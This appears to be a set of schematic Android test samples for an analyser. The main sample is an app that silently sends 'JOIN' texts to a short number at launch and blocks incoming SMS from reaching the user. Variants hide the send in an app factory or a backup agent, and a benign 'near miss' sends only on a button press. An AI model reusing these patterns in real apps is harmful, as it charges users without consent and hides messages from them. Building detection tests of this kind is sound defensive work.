permissions("SEND_SMS", "RECEIVE_SMS")

@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        self.startService(Intent(self, Order))

@service
class Order(Service):
    def onStartCommand(self, intent, flags, number):
        self.order("15550100")
        return 1
    def order(self, number: String):
        SmsManager.getDefault().sendTextMessage(number, None, "JOIN", None, None)

class Press(View_OnClickListener):
    def onClick(self, view):
        Order().order("15550100")

@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"], priority=500)
class Answer(BroadcastReceiver):
    def onReceive(self, context, intent):
        self.abortBroadcast()

# near miss: sends only when the user presses the button
@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        self.findViewById(1).setOnClickListener(Press())

@service
class Order(Service):
    def onStartCommand(self, intent, flags, number):
        return 1
    def order(self, number: String):
        SmsManager.getDefault().sendTextMessage(number, None, "JOIN", None, None)

# also: before the app itself begins, in its factory
@service
class Order(Service):
    def onStartCommand(self, intent, flags, number):
        return 1

class Press(View_OnClickListener):
    def onClick(self, view):
        pass

class Factory(AppComponentFactory):
    def instantiateApplication(self, loader, name):
        SmsManager.getDefault().sendTextMessage("15550100", None, "JOIN", None, None)
        return None

# also: when a backup comes back, in a constructor
@service
class Order(Service):
    def onStartCommand(self, intent, flags, number):
        return 1

class Press(View_OnClickListener):
    def onClick(self, view):
        pass

class Restore(BackupAgent):
    def __init__(self):
        SmsManager.getDefault().sendTextMessage("15550100", None, "JOIN", None, None)
